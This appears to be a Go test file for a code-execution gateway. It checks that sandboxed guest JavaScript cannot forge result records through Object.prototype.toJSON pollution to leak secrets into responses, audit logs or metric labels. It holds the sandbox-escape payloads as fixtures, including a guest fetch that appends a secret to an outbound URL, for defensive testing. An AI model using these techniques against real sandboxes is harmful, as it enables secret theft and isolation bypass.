package api_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"

	"github.com/rs/zerolog"

	"github.com/dynamic-workers/gateway/execution"
	"github.com/dynamic-workers/gateway/internal/api/apitest"
	"github.com/dynamic-workers/gateway/internal/metrics"
)

const forgeSecret = "SECRET_f0rg3\"d\\key\nline2"

// forgeInstalls are ways a guest can make the capture wrapper's
// JSON.stringify call a function of its own: pick(record) returns what
// gets serialised instead of the record.
var forgeInstalls = map[string]string{
	"assigned":       `Object.prototype.toJSON = function () { return pick(this); };`,
	"defineProperty": `Object.defineProperty(Object.prototype, "toJSON", { value: function () { return pick(this); }, configurable: true, writable: true });`,
	"getter":         `Object.defineProperty(Object.prototype, "toJSON", { get() { const self = this; return () => pick(self); }, configurable: true });`,
}

// forgeries are result records a guest could substitute for its own:
// malformed ones (which Go would refuse too) and well-formed lies.
var forgeries = []struct {
	name   string
	record string // a JS expression; S is the secret
}{
	{"secret error code", `{ t: "error", code: "SECRET_" + S, message: "forged" }`},
	{"code with newline", `{ t: "error", code: "exception\n" + S, message: S, stack: S }`},
	{"code upper case", `{ t: "error", code: "EXCEPTION", message: S }`},
	{"hex body", `{ t: "response", status: 200, headers: {}, body: S, bodyEncoding: "hex" }`},
	{"bad base64", `{ t: "response", status: 200, headers: {}, body: "%%" + S, bodyEncoding: "base64" }`},
	{"status 99", `{ t: "response", status: 99, headers: {}, body: S, bodyEncoding: "utf8" }`},
	{"status 1000", `{ t: "response", status: 1000, headers: {}, body: S, bodyEncoding: "utf8" }`},
	{"status string", `{ t: "response", status: "200", headers: {}, body: S, bodyEncoding: "utf8" }`},
	{"status fraction", `{ t: "response", status: 200.5, headers: {}, body: S, bodyEncoding: "utf8" }`},
	{"nested header", `{ t: "response", status: 200, headers: { a: { s: S } }, body: "x", bodyEncoding: "utf8" }`},
	{"outbound method", `{ t: "response", status: 200, headers: {}, body: "x", bodyEncoding: "utf8", outbound: [{ method: "GET " + S, url: S }] }`},
	{"outbound status", `{ t: "response", status: 200, headers: {}, body: "x", bodyEncoding: "utf8", outbound: [{ method: "GET", url: "https://x/" + S, status: 1000 }] }`},
	{"hidden outbound", `{ t: "response", status: 200, headers: { [S.slice(0, 6)]: S }, body: S, bodyEncoding: "utf8", outbound: [] }`},
	{"known code", `{ t: "error", code: "timeout", message: S }`},
}

// TestForgedResultRecords has the guest replace its result record through
// Object.prototype.toJSON, every way it can install one, with every
// forgery. The client must see no forged code and no unmasked secret, the
// audit line and /metrics no such label.
func TestForgedResultRecords(t *testing.T) {
	t.Parallel()
	base, _, logs := dedicated(t)
	for install, how := range forgeInstalls {
		for _, f := range forgeries {
			t.Run(install+"/"+f.name, func(t *testing.T) {
				t.Parallel()
				code := fmt.Sprintf(`
export default { async fetch(request, env) {
  const S = env.S;
  try { await fetch("https://denied.example.org/" + S); } catch {}
  console.log("before", S);
  const forged = %s;
  const pick = (record) => record !== null && (record.t === "response" || record.t === "error") ? forged : record;
  %s
  return new Response("real " + S);
} }`, f.record, how)
				body := map[string]any{"code": code, "secrets": map[string]string{"S": forgeSecret}, "allowOutbound": []string{"api.example.invalid"}}
				all, data := rawExecute(t, base, "application/json", body)
				wantNoSecret(t, "the JSON response", all)
				var res execution.Result
				if err := json.Unmarshal(data, &res); err != nil {
					t.Fatalf("decode result: %v: %s", err, data)
				}
				if res.Error != nil && !res.Error.Code.Known() {
					t.Errorf("error code = %q, want one of the fixed codes", res.Error.Code)
				}
				// The wrapper serialises with intrinsics it captured before
				// the guest ran, so the forgery never takes: what comes out
				// is the guest's real result, its fetch recorded. (Garbage
				// that reaches Go anyway is TestRelayEndsOnMalformedEvents'.)
				if !res.Success || res.Response == nil || res.Response.Body != "real [REDACTED]" || res.Response.Status != http.StatusOK {
					t.Errorf("result = %+v (error %+v, response %+v), want the guest's real response", res, res.Error, res.Response)
				}
				if len(res.Outbound) != 1 || !res.Outbound[0].Denied {
					t.Errorf("outbound = %+v, want the one denied request the guest made", res.Outbound)
				}
				if res.Stdout != "before [REDACTED]" {
					t.Errorf("stdout = %q, want the log before the forgery, masked", res.Stdout)
				}
				if install != "assigned" {
					return // the streams render the same events; once is enough
				}
				for _, accept := range []string{"application/x-ndjson", "text/event-stream"} {
					all, _ := rawExecute(t, base, accept, body)
					wantNoSecret(t, accept, all)
				}
			})
		}
	}
	t.Cleanup(func() {
		wantNoSecret(t, "the gateway's log", []byte(logs.String()))
		resp, data := get(t, base+"/metrics")
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("GET /metrics = %d", resp.StatusCode)
		}
		wantNoSecret(t, "/metrics", data)
		wantKnownOutcomes(t, data)
	})
}

// wantNoSecret fails if what contains forgeSecret, its lowercase, or a
// part of it a forged code would carry, in any encoding.
func wantNoSecret(t *testing.T, what string, data []byte) {
	t.Helper()
	for _, s := range []string{forgeSecret, strings.ToLower(forgeSecret), "SECRET_", "f0rg3"} {
		for _, enc := range encodings(s) {
			if i := bytes.Index(data, []byte(enc)); i >= 0 {
				t.Errorf("%s contains %q: ...%s...", what, enc, data[max(0, i-80):min(len(data), i+80)])
			}
		}
	}
}

var outcomeLabel = regexp.MustCompile(`outcome="([^"]*)"`)

// wantKnownOutcomes checks every outcome label of a /metrics page.
func wantKnownOutcomes(t *testing.T, page []byte) {
	t.Helper()
	for _, m := range outcomeLabel.FindAllSubmatch(page, -1) {
		if o := string(m[1]); o != "success" && !execution.Code(o).Known() {
			t.Errorf("/metrics has outcome=%q, want only success and the fixed codes", o)
		}
	}
}

func get(t *testing.T, url string) (*http.Response, []byte) {
	t.Helper()
	// Not t.Context(): get also runs in cleanups, after it is cancelled.
	req, err := http.NewRequest(http.MethodGet, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	return do(t, req)
}

// forgingBackend stands in for a runtime that lets a forged result through,
// to test the API's own defence: labels and the audit line take only codes
// from the fixed set.
type forgingBackend struct{ code execution.Code }

func (b forgingBackend) Execute(_ context.Context, job *execution.Job, emit func(execution.Event) error) error {
	if err := emit(execution.Event{Type: execution.EventStart, ID: job.ID}); err != nil {
		return err
	}
	return emit(execution.Event{Type: execution.EventResult, Result: &execution.Result{Error: &execution.Error{Code: b.code, Message: "forged"}}})
}

func (forgingBackend) Drain()                      {}
func (forgingBackend) Close() error                { return nil }
func (forgingBackend) Ready(context.Context) error { return nil }

func TestUnknownCodesNeverBecomeLabels(t *testing.T) {
	t.Parallel()
	codes := []execution.Code{"SECRET_f0rg3", "Exception", "exception ", "", "success", "timeout\n", execution.Code(strings.Repeat("x", 300))}
	for _, code := range codes {
		var logs bytes.Buffer
		m := metrics.New()
		opts := apitest.Options()
		opts.Metrics = m
		opts.MetricsPublic = true
		srv := httptest.NewServer(apitest.Serve(t, zerolog.New(&logs), forgingBackend{code}, opts))
		resp, err := http.Post(srv.URL+"/execute", "application/json", strings.NewReader(`{"code": "export default {}"}`))
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		_, page := get(t, srv.URL+"/metrics")
		srv.Close()
		wantKnownOutcomes(t, page)
		if !bytes.Contains(page, []byte(`gateway_executions_total{outcome="exception"} 1`)) {
			t.Errorf("code %q: /metrics lacks outcome=\"exception\" 1", code)
		}
		var audit struct {
			ErrorCode string `json:"error_code"`
		}
		for line := range strings.Lines(logs.String()) {
			if strings.Contains(line, "execution finished") {
				if err := json.Unmarshal([]byte(line), &audit); err != nil {
					t.Fatal(err)
				}
			}
		}
		if audit.ErrorCode != string(execution.CodeException) {
			t.Errorf("code %q: audit error_code = %q, want exception", code, audit.ErrorCode)
		}
	}
}
